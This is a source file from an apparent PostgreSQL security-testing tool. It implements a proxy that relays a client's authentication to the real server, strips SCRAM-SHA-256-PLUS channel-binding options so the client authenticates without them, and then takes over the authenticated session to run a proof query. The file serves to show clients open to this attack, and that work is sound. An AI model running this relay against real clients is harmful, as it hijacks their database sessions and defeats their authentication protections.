/**
 * The proxy's relay to the real server (--upstream): the client's authentication is forwarded to a session of the
 * one upstream client (upstream-session.ts), so the relay has its verified connect, its bounds (bytes, messages,
 * time) and its refusals; once the server says AuthenticationOk, the session is the proxy's, which finishes the
 * login and runs PROOF_QUERY through the same phases.
 */
import { describeSocketError } from "../net/connection.js";
import { frameMessage, parseErrorResponse } from "../pgwire/backend.js";
import { authenticationSasl, errorResponse } from "../pgwire/server-messages.js";
import { PROOF_QUERY } from "./model.js";
import { Failure, finishLogin, nextAuthMessage, openSession, runQuery, } from "./upstream-session.js";
/** Characters kept of each row's first column in the proof: `current_user`, not a dump. */
const MAX_RESULT_CHARS = 200;
/**
 * Relays authentication between the client and the real server over verified TLS, the client's StartupMessage
 * parameters as they came; once the server says AuthenticationOk, the session is the proxy's: it runs PROOF_QUERY
 * itself, then closes both sides. False when the real server could not be reached (nothing was relayed). The
 * whole upstream session has `timeoutMs`; each wait for the client, `timeoutMs` of its own.
 */
export async function relay(client, f, upstream, params, timeoutMs) {
    const step = (s) => f.steps.push(s);
    let server;
    try {
        server = await openSession({ ...upstream, timeoutMs }, params);
    }
    catch (e) {
        step(`proxy could not reach the real server (${failureText(e)}): it asks for authentication itself, and the query step cannot run`);
        return false;
    }
    f.relayed = true;
    step("proxy relayed the StartupMessage to the real server over verified TLS");
    try {
        for (;;) {
            let m;
            try {
                m = await nextAuthMessage(server);
            }
            catch (e) {
                step(`the relayed authentication broke off on the real server's side: ${failureText(e)}`);
                return true;
            }
            if (m.type === "E") {
                const e = parseErrorResponse(m.body);
                f.upstreamRefusal = `${e.code} ${e.message}`;
                step(`the real server refused the relayed authentication: ${e.code} ${e.message}`);
                client.write(m.raw);
                return true;
            }
            const auth = m.request;
            if (auth.code === 0) {
                f.upstreamAuthenticated = true;
                step("the real server accepted the relayed authentication (AuthenticationOk): the session is the proxy's");
                f.query = await proofQuery(server);
                step(f.query.result !== undefined
                    ? `proxy ran ${f.query.sql} on the hijacked session → ${f.query.result}`
                    : `proxy's query failed: ${f.query.error}`);
                client.write(errorResponse("08006", "connection taken over by wirewarden prove"));
                return true;
            }
            if (auth.code === 10 && !f.tlsEstablished && auth.mechanisms.some((m) => m.endsWith("-PLUS"))) {
                // libpq refuses SCRAM-SHA-256-PLUS offered over plaintext, so an attacker hides it, as this one does.
                const plain = auth.mechanisms.filter((m) => !m.endsWith("-PLUS"));
                step(`the real server offered ${auth.mechanisms.join(", ")}; proxy passed on only ${plain.join(", ")}`);
                client.write(authenticationSasl(plain));
            }
            else
                client.write(m.raw);
            if (auth.code === 11 || auth.code === 10 || auth.code === 3 || auth.code === 5) {
                const reply = await clientMessage(client, timeoutMs);
                if (!reply) {
                    step(`client stopped authenticating after ${auth.name}`);
                    return true;
                }
                if (reply.type === "p")
                    f.answeredAuth = true;
                step(`client answered ${auth.name}; relayed`);
                server.write(reply.raw);
            }
        }
    }
    finally {
        server.destroy();
    }
}
/**
 * After AuthenticationOk: the session's own finishLogin and runQuery. The result is the first column of each row
 * (SQL NULL as the empty string), each cut to MAX_RESULT_CHARS, joined by ", ".
 */
async function proofQuery(server) {
    const sql = PROOF_QUERY;
    try {
        await finishLogin(server);
        const rows = await runQuery(server, sql);
        server.terminate();
        return { sql, result: rows.map((row) => (row[0] ?? "").slice(0, MAX_RESULT_CHARS)).join(", ") };
    }
    catch (e) {
        return { sql, error: failureText(e) };
    }
}
/** The client's next message, byte for byte, consumed; undefined if it closed, timed out or sent garbage. */
async function clientMessage(client, timeoutMs) {
    const r = await client.waitFor((b) => {
        const framed = frameMessage(b);
        return framed.kind === "incomplete" ? undefined : framed;
    }, timeoutMs);
    if (r.kind !== "ok" || r.value.kind !== "message")
        return undefined;
    const raw = Buffer.from(client.buffer.subarray(0, 1 + 4 + r.value.message.body.length));
    client.consume(raw.length);
    return { type: r.value.message.type, raw };
}
function failureText(e) {
    return e instanceof Failure ? e.message : describeSocketError(e);
}
//# sourceMappingURL=upstream-relay.js.map